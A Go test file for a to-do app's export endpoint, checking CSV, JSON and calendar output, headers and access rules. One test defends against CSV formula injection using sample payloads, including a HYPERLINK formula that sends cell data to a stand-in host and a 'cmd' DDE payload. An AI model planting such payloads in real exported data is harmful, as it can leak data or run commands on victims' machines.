package functions_test

import (
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/google/uuid"
)

var exportTypes = map[string]string{
	"json": "application/json", "csv": "text/csv; charset=utf-8", "ics": "text/calendar; charset=utf-8",
}

// exportAs returns an export in a format.
func (u user) exportAs(t *testing.T, format string) string {
	t.Helper()
	a := request{method: "GET", path: "/api/export?format=" + format, token: u.Token,
		header: map[string]string{"Accept-Encoding": "identity"}}.send(t).want(t, 200)
	if got := a.Header.Get("Content-Disposition"); got != `attachment; filename="todo.`+format+`"` {
		t.Errorf("Content-Disposition %q", got)
	}
	if got := a.Header.Get("Content-Type"); got != exportTypes[format] {
		t.Errorf("Content-Type %q, want %q", got, exportTypes[format])
	}
	return string(a.Body)
}

// TestExportTable holds a row's cells as a parser reads them: text as it is, but for what a spreadsheet would take for
// a formula (OWASP, CSV Injection).
func TestExportTable(t *testing.T) {
	u := newUser(t)
	position := 0
	add := func(column string, value any) {
		t.Helper()
		position++
		columns := map[string]any{"title": "Title", "description": nil, "tags": []string{}, "category": nil}
		columns[column] = value
		exec(t, `insert into tasks (id, user_id, position, title, description, tags, category)
			values (gen_random_uuid(), $1, $2, $3, $4, $5, $6)`, u.ID, fmt.Sprintf("a%03d", position), columns["title"],
			columns["description"], columns["tags"], columns["category"])
	}
	rows := []struct {
		column string
		value  any
		want   string
	}{
		{"title", "Plain", "Plain"},
		{"title", `Ärger, "quoted"; 😀 'n\ <b>`, `Ärger, "quoted"; 😀 'n\ <b>`},
		{"title", `=HYPERLINK("http://x.example?"&A1,"x")`, `'=HYPERLINK("http://x.example?"&A1,"x")`},
		{"title", "+1", "'+1"},
		{"title", "-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"},
		{"title", "@SUM(A1)", "'@SUM(A1)"},
		{"title", `"=1+1"`, `'"=1+1"`},
		{"title", `'" '=1`, `''" '=1`},
		{"title", "＝1", "'＝1"},
		{"title", "1=1", "1=1"},
		{"title", `"quoted"`, `"quoted"`},
		{"title", "'tis", "'tis"},
		{"category", "=1", "'=1"},
		{"description", nil, ""},
		{"description", "two\nlines\n\n- and more,\n", "two\nlines\n\n- and more,\n"},
		{"description", "\t=1", "'\t=1"},
		{"description", "\tx", "'\tx"},
		{"description", "\n", "'\n"},
		{"description", "\u00a0=1", "'\u00a0=1"},
		{"description", strings.Repeat("𝒴", 1000), strings.Repeat("𝒴", 1000)},
		{"tags", []string{}, ""},
		{"tags", []string{"red", "green"}, "red,green"},
		{"tags", []string{"a, b", `"`, "c"}, `"a, b","""",c`},
		{"tags", []string{"=1", "x"}, "'=1,x"},
	}
	for _, row := range rows {
		add(row.column, row.value)
	}
	text, marked := strings.CutPrefix(u.exportAs(t, "csv"), "\ufeff")
	if !marked || strings.Contains(strings.ReplaceAll(text, "\r\n", ""), "\n") {
		t.Error("there is no byte order mark, or a line that does not end in CRLF")
	}
	table, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	heading, table := table[0], table[1:]
	if len(table) != len(rows) {
		t.Fatalf("%d rows, want %d", len(table), len(rows))
	}
	for i, row := range rows {
		if got := table[i][slices.Index(heading, row.column)]; got != row.want {
			t.Errorf("%s %q: %q, want %q", row.column, row.value, got, row.want)
		}
	}
}

// TestExportTableColumns holds a table to the byte, of a user who has everything that a task can have: those in the
// trash, or in a list that is, are left out. Another user's tasks are in no export.
func TestExportTableColumns(t *testing.T) {
	u, other := newUser(t), newUser(t)
	u.fill(t)
	exec(t, `insert into tasks (id, user_id, title) values (gen_random_uuid(), $1, 'Foreign')`, other.ID)
	exec(t, `insert into tasks (id, user_id, title, deleted_at) values (gen_random_uuid(), $1, 'Thrown away', now())`,
		u.ID)
	id := func(title string) string {
		return queryOne[uuid.UUID](t, `select id from tasks where user_id = $1 and title like $2`, u.ID, title).String()
	}
	full := id("Ganz%")
	want := strings.Join([]string{
		"\ufeffid,list,parent_id,parent,title,description,completed,priority,tags,category,start_on,due_on,due_date," +
			"recurrence_rule,recurrence_from,completed_at,created_at,updated_at",
		id("Plain") + ",Réception,,,Plain,,false,,,,,,,,,,2026-01-01T00:00:00.000Z,2026-01-01T00:00:00.000Z",
		full + `,"Home ""sweet"" home",,,"Ganz 😀 <b>&</b> \ ""voll""","two` + "\r\n\tlines\"" +
			`,true,high,"red,""a, b""",Work,2026-02-28,,2026-03-01T09:00:00.000Z,FREQ=MONTHLY;BYMONTHDAY=-1,due,` +
			"2026-03-02T10:00:00.123Z,2026-01-02T00:00:00.000Z,2026-03-02T10:00:00.124Z",
		id("A step") + `,"Home ""sweet"" home",` + full + `,"Ganz 😀 <b>&</b> \ ""voll""",A step,,true,,,,,,,,,` +
			"2026-02-01T00:00:00.000Z,2026-01-03T00:00:00.000Z,2026-02-01T00:00:00.000Z",
		id("Next") + `,"Home ""sweet"" home",,,Next,,false,,,,,2026-04-30,,FREQ=MONTHLY;INTERVAL=2,completion,,` +
			"2026-03-02T10:00:00.123Z,2026-03-02T10:00:00.123Z",
		"",
	}, "\r\n")
	if got := u.exportAs(t, "csv"); got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	for format := range exportTypes {
		text := u.exportAs(t, format)
		if strings.Contains(text, "Foreign") || strings.Contains(text, "Thrown away") != (format == "json") {
			t.Errorf("%s has foreign tasks, or not those that it should have:\n%s", format, text)
		}
	}
}

// TestExportFormats has who asks for what.
func TestExportFormats(t *testing.T) {
	u := newUser(t)
	get := func(query, token string) answer {
		return request{method: "GET", path: "/api/export" + query, token: token}.send(t)
	}
	for query, want := range map[string]int{
		"": 200, "?format=json": 200, "?format=csv": 200, "?format=ics": 200,
		"?format=xml": 422, "?format=": 422, "?format=CSV": 422, "?form=csv": 422, "?format=csv&format=ics": 400,
	} {
		a := get(query, u.Token).want(t, want)
		if want != 200 && !strings.Contains(string(a.Body), `"errors":[{"field":"form`) {
			t.Errorf("%s: %s", query, a.Body)
		}
		get(query, "").want(t, 401)
		if want == 200 {
			trips(func() { get(query, u.Token) }) // lets the connection learn the statement
			if n := trips(func() { get(query, u.Token) }); n != 1 {
				t.Errorf("%s: %d round trips", query, n)
			}
		}
	}
	empty := newUser(t)
	if text := empty.exportAs(t, "csv"); strings.Count(text, "\r\n") != 1 {
		t.Errorf("the table of nobody is %q", text)
	}
	if text := empty.exportAs(t, "ics"); !strings.Contains(text, "END:VTIMEZONE\r\nEND:VCALENDAR\r\n") {
		t.Errorf("the calendar of nobody is %q", text)
	}
}
